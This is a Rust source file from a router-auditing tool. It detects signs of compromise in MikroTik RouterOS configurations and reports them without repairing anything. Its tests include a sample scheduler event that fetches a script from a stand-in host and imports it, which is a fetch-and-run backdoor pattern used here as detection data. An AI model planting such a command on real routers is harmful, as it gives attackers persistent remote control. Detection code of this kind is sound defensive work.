//! What looks like a break-in, and why (reference router-configuration §1.5, row F). It is only said:
//! FirstHop repairs nothing of it, because what it does not see would stay.
use crate::signs::{self, Name, Script};
use routeros::{Menu, Record, Snapshot, Text, menu};

/// A record that looks like a break-in.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Suspicion {
    /// Where it is.
    pub menu: Menu,
    /// Its name, as the router gave it; empty for a settings menu.
    pub name: String,
    /// The sentence: `suspicion.<key>`.
    pub text: Text,
    /// Whether it is enough by itself. What is not could be an owner's own carelessness.
    pub alone: bool,
}

/// Everything that looks like a break-in; none unless something does by itself.
pub fn suspicions(snapshot: &Snapshot) -> Vec<Suspicion> {
    let mut found = Vec::new();
    let mut say = |menu: Menu, name: &str, key: &str, alone| {
        found.push(Suspicion { menu, name: name.to_owned(), text: Text::new(key).with("name", name), alone });
    };
    if snapshot.settings(menu::SYSTEM_DEVICE_MODE).is_some_and(|record| record.flag("flagged")) {
        say(menu::SYSTEM_DEVICE_MODE, "", "flagged", true);
    }
    for (menu, key) in [(menu::IP_SOCKS, "socks"), (menu::IP_PROXY, "proxy")] {
        if snapshot.settings(menu).is_some_and(|record| record.flag("enabled")) {
            say(menu, "", key, menu == menu::IP_SOCKS);
        }
    }
    for (menu, record, script) in signs::scripts(snapshot) {
        if script == Script::RunsWhatItFetches {
            say(menu, record.text_or_empty("name"), "fetches", true);
        }
    }
    for rule in snapshot.records(menu::IP_FIREWALL_FILTER).filter(|rule| lets_everybody_in(rule)) {
        say(menu::IP_FIREWALL_FILTER, rule.text_or_empty("dst-port"), "open", false);
    }
    for user in signs::more_full_users(snapshot).1 {
        say(menu::USER, user.text_or_empty("name"), "user", false);
    }
    for name in signs::names(snapshot) {
        if let Name::Answered(record) = name {
            say(menu::IP_DNS_STATIC, signs::name(record), "name", false);
        }
    }
    if found.iter().any(|suspicion| suspicion.alone) { found } else { Vec::new() }
}

/// A rule that opens ports of the router itself, wherever a packet comes from.
fn lets_everybody_in(rule: &Record) -> bool {
    let narrowing = ["in-interface", "in-interface-list", "src-address", "src-address-list", "connection-state"];
    rule.text("chain") == Some("input")
        && rule.text("action") == Some("accept")
        && !rule.is_disabled()
        && rule.text("dst-port").is_some()
        && narrowing.iter().all(|name| rule.text_or_empty(name).is_empty())
}

#[cfg(test)]
mod tests {
    use super::*;
    use routeros::{MenuState, Version};
    use std::collections::BTreeMap;

    fn snapshot(menu: Menu, state: MenuState) -> Snapshot {
        Snapshot::new(Version::new(7, 20, 6), BTreeMap::from([(menu, state)]))
    }

    #[test]
    fn carelessness_alone_is_no_break_in() {
        let rule = Record::of(Some("*1"), &[("chain", "input"), ("action", "accept"), ("dst-port", "8291")]);
        assert_eq!(suspicions(&snapshot(menu::IP_FIREWALL_FILTER, MenuState::List(vec![rule]))), []);
        let update = "/tool fetch url=https://ddns.example/update?ip=$ip";
        let schedule = Record::of(Some("*1"), &[("name", "ddns"), ("on-event", update)]);
        assert_eq!(suspicions(&snapshot(menu::SYSTEM_SCHEDULER, MenuState::List(vec![schedule]))), []);
    }

    #[test]
    fn what_runs_what_a_stranger_sends_is_one() {
        let event = "/tool fetch url=http://x.example/a dst-path=a.rsc\r\n/import a.rsc";
        let schedule = Record::of(Some("*1"), &[("name", "U7"), ("on-event", event)]);
        let found = suspicions(&snapshot(menu::SYSTEM_SCHEDULER, MenuState::List(vec![schedule])));
        assert_eq!(found.iter().map(|why| (why.name.as_str(), why.alone)).collect::<Vec<_>>(), [("U7", true)]);
    }
}
